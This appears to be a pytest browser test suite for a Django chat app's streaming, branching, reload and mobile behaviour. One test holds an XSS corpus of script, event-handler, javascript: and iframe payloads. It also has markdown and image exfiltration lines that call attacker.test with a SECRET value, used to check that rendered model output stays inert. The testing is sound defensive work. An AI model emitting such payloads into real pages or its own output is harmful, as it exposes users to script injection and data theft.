"""The chat as a person uses it: headless Chromium against a real daphne process.

The providers point at the emulators; `[[emu:...]]` in a prompt scripts the "model".
Screenshots land in test-artifacts/.
"""

from __future__ import annotations

import random
import time
from typing import Any
from urllib.parse import urlsplit

import pytest

from conversations.models import Message
from tests.conftest import PASSWORD, screenshot
from tests.e2e.browser import last_answer, sign_in, start_chat, wait_js, wait_status

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


@pytest.fixture
def chat(live_app: Any, emulated: Any, page: Any, owner: Any) -> Any:
    sign_in(page, live_app.url)
    return page










def _stored(seq: int) -> Message:
    return Message.objects.get(seq=seq, role="assistant")


def test_a_new_chat_streams_token_by_token_and_matches_a_reload(chat: Any) -> None:
    page = chat
    start_chat(page, "Tell me about llamas [[emu:tokens n=60 rate=25]]")
    lengths = set()
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        status = last_answer(page).get_attribute("data-status")
        lengths.add(len(last_answer(page).inner_text()))
        if status == "complete":
            break
        page.wait_for_timeout(150)
    assert len(lengths) >= 4, "the answer should appear progressively"
    screenshot(page, "chat-complete")
    live = last_answer(page).locator(".md").inner_html()
    seq = int(last_answer(page).get_attribute("data-seq"))
    page.reload()
    assert last_answer(page).locator(".md").inner_html() == live
    assert last_answer(page).inner_text().startswith("Llama 3.2 3B Instruct")
    assert "lorem" in _stored(seq).content
    assert page.console_errors == []


def test_stop_keeps_what_was_written(chat: Any) -> None:
    page = chat
    start_chat(page, "A very long story [[emu:tokens n=400 rate=20]]")
    wait_js(page,
        "document.querySelector('.msg-assistant:last-of-type [data-tail]')"
        "?.textContent.length > 30")
    page.click("[data-stop]")
    wait_status(page, "stopped")
    answer = last_answer(page)
    assert "Stopped. What was written is kept." in answer.inner_text()
    stored = _stored(int(answer.get_attribute("data-seq")))
    assert stored.status == "stopped"
    assert 30 < len(stored.content) < 400 * 3
    assert answer.locator(".md").inner_text().strip() == page.evaluate(
        "(t) => { const d = document.createElement('div'); d.innerHTML = t;"
        " return d.innerText.trim(); }", answer.locator(".md").inner_html()).strip()
    assert page.locator("[data-stop]").is_hidden()
    screenshot(page, "chat-stopped")


def test_regenerate_and_step_between_attempts(chat: Any) -> None:
    page = chat
    start_chat(page, "First try [[emu:tokens n=12]]")
    wait_status(page, "complete")
    first = last_answer(page).locator(".md").inner_text()
    page.fill("#composer-text", "Follow-up [[emu:tokens n=8]]")
    page.keyboard.press("Enter")
    page.wait_for_selector(".msg-assistant >> nth=1")
    wait_status(page, "complete")
    last_answer(page).locator("[data-regenerate] button").click()
    page.wait_for_selector(".msg-assistant:last-of-type .sibling-pos")
    wait_status(page, "complete")
    assert last_answer(page).locator(".sibling-pos").inner_text() == "2/2"
    last_answer(page).locator(".siblings button[aria-label='Previous version']").click()
    wait_js(page,
        "document.querySelector('.msg-assistant:last-of-type .sibling-pos')?.textContent"
        " === '1/2'")
    assert page.locator(".msg-assistant").first.locator(".md").inner_text() == first
    screenshot(page, "chat-attempts")


def test_editing_a_prompt_makes_a_branch_and_both_stay(chat: Any) -> None:
    page = chat
    start_chat(page, "Original question [[emu:tokens n=10]]")
    wait_status(page, "complete")
    user = page.locator(".msg-user").first
    user.locator(".edit-prompt summary").click()
    user.locator(".edit-form textarea").fill("Edited question [[emu:tokens n=10]]")
    user.locator(".edit-form button[type=submit]").click()
    wait_js(page,
        "document.querySelector('.msg-user .sibling-pos')?.textContent === '2/2'")
    wait_status(page, "complete")
    assert "Edited question" in page.locator(".msg-user").first.inner_text()
    assert "Echo: Edited question" in last_answer(page).inner_text()
    page.locator(".msg-user .siblings button[aria-label='Previous version']").click()
    wait_js(page,
        "document.querySelector('.msg-user .sibling-pos')?.textContent === '1/2'")
    assert "Original question" in page.locator(".msg-user").first.inner_text()
    assert "Echo: Original question" in last_answer(page).inner_text()
    assert Message.objects.filter(role="user").count() == 2
    screenshot(page, "chat-branches")


def test_a_reload_mid_answer_continues_the_same_answer(chat: Any) -> None:
    page = chat
    start_chat(page, "Keep going [[emu:tokens n=120 rate=25]]")
    wait_js(page,
        "document.querySelector('.msg-assistant:last-of-type [data-tail]')"
        "?.textContent.length > 20")
    page.reload()
    assert last_answer(page).get_attribute("data-status") in ("streaming", "queued")
    wait_status(page, "complete", timeout=30_000)
    seq = int(last_answer(page).get_attribute("data-seq"))
    live = last_answer(page).locator(".md").inner_html()
    page.reload()
    assert last_answer(page).locator(".md").inner_html() == live
    assert _stored(seq).status == "complete"


XSS = "\n\n".join([
    "<script>window.__xss = 1</script>",
    "<img src=x onerror=\"window.__xss = 2\">",
    "<svg onload=\"window.__xss = 3\"></svg>",
    "[click](javascript:window.__xss=4)",
    "[click](jav&#x61;script:window.__xss=5)",
    "<a href=\"javascript:window.__xss=6\">a</a>",
    "![exfil](https://attacker.test/p.png?q=SECRET)",
    "<img src=\"https://attacker.test/?d=SECRET\">",
    "<iframe srcdoc=\"<script>parent.__xss=7</script>\"></iframe>",
    "<style>body{display:none}</style>",
    "<form action=https://attacker.test><button>go</button></form>",
    "<meta http-equiv=refresh content=\"0;url=https://attacker.test\">",
    "**bold** <b onmouseover=\"window.__xss=8\">b</b>",
    "```html\n<script>window.__xss=9</script>\n```",
    "<details open ontoggle=\"window.__xss=10\">x</details>",
])


def test_an_xss_corpus_in_model_output_runs_nothing_and_loads_nothing_remote(
    chat: Any, live_app: Any
) -> None:
    page = chat
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.add_init_script("window.alert = () => { window.__xss = 'alert'; };")
    start_chat(page, "[[emu:verbatim]] " + XSS)
    wait_status(page, "complete", timeout=30_000)
    for _ in range(2):  # the live DOM, then a reload of the stored answer
        body = last_answer(page).locator(".md")
        for element in body.locator("a, button").all():
            element.click(modifiers=["Alt"], no_wait_after=True, timeout=2000, force=True)
        body.hover()
        assert page.evaluate("window.__xss") is None
        assert body.locator("img, iframe, script, svg, style, form, meta").count() == 0
        assert "SECRET" in body.inner_text()  # shown as text, never fetched
        page.reload()
    hosts = {urlsplit(url).hostname for url in requests}
    assert hosts <= {"127.0.0.1"}, hosts
    screenshot(page, "chat-xss-corpus")


def test_the_delta_logic_survives_reordering_and_duplicates(chat: Any) -> None:
    """Deltas applied in any order with repeats: gaps are refused, the result never corrupts."""
    page = chat
    text = "Hello 🦙 world, 你好! " * 8
    pieces: list[tuple[int, str]] = []
    offset = 0
    rng = random.Random(7)
    while offset < len(text.encode("utf-16-le")) // 2:
        size = rng.randint(1, 9)
        units = text.encode("utf-16-le")
        piece = units[offset * 2:(offset + size) * 2].decode("utf-16-le", errors="ignore")
        if not piece:
            size += 1
            continue
        pieces.append((offset, piece))
        offset += len(piece.encode("utf-16-le")) // 2
    for seed in range(20):
        order = pieces + rng.sample(pieces, k=len(pieces) // 2)
        random.Random(seed).shuffle(order)
        result = page.evaluate("""async ([order, pieces, all]) => {
            const { applyDelta } = await import('/static/js/stream.js');
            let text = '';
            let gaps = 0;
            let bad = false;
            for (const [offset, piece] of order) {
                const next = applyDelta(text, offset, piece);
                if (next.result === 'gap') gaps += 1;
                text = next.text;
                if (!all.startsWith(text)) bad = true;
            }
            const partial = text;
            for (const [offset, piece] of pieces) text = applyDelta(text, offset, piece).text;
            return {partial, text, gaps, bad};
        }""", [order, pieces, text])
        assert not result["bad"], result
        assert text.startswith(result["partial"])
        assert result["text"] == text


def test_on_a_phone_the_list_is_a_drawer_and_the_chat_still_works(live_app: Any, emulated: Any,
                                                                   browser: Any,
                                                                   owner: Any) -> None:
    context = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True,
                                  color_scheme="dark")
    page = context.new_page()
    try:
        page.goto(live_app.url + "/accounts/login/")
        page.fill("#id_username", "alice")
        page.fill("#id_password", PASSWORD)
        page.click("button[type=submit]")
        page.wait_for_url(live_app.url + "/")
        start_chat(page, "Hello from a phone [[emu:tokens n=20]]")
        wait_status(page, "complete")
        sidebar = page.locator("#sidebar")
        assert sidebar.bounding_box()["x"] < 0  # off screen until asked for
        page.click("[data-drawer-open]")
        page.wait_for_timeout(300)
        assert sidebar.bounding_box()["x"] == 0
        assert page.locator(".conv-item").first.is_visible()
        screenshot(page, "chat-phone-drawer-dark")
        page.click(".sidebar-scrim", position={"x": 370, "y": 400})
        page.wait_for_timeout(300)
        assert sidebar.bounding_box()["x"] < 0
    finally:
        context.close()


def test_the_browser_takes_its_frames_compressed_and_shows_the_same_answer(chat: Any) -> None:
    """Chromium offers permessage-deflate on every websocket; the server accepts it, and the
    streamed answer (deltas and rendered blocks through one compression context) is what a
    reload shows."""
    page = chat
    cdp = page.context.new_cdp_session(page)
    cdp.send("Network.enable")
    handshakes: list[dict[str, str]] = []
    cdp.on("Network.webSocketHandshakeResponseReceived",
           lambda event: handshakes.append(
               {k.lower(): v for k, v in event["response"]["headers"].items()}))
    start_chat(page, "Compress this [[emu:tokens n=80 rate=40]]")
    wait_status(page, "complete")
    assert handshakes, "the page opened no websocket"
    assert all("permessage-deflate" in h.get("sec-websocket-extensions", "")
               for h in handshakes), handshakes
    live = last_answer(page).locator(".md").inner_html()
    seq = int(last_answer(page).get_attribute("data-seq"))
    page.reload()
    assert last_answer(page).locator(".md").inner_html() == live
    assert _stored(seq).status == "complete"
    assert page.console_errors == []
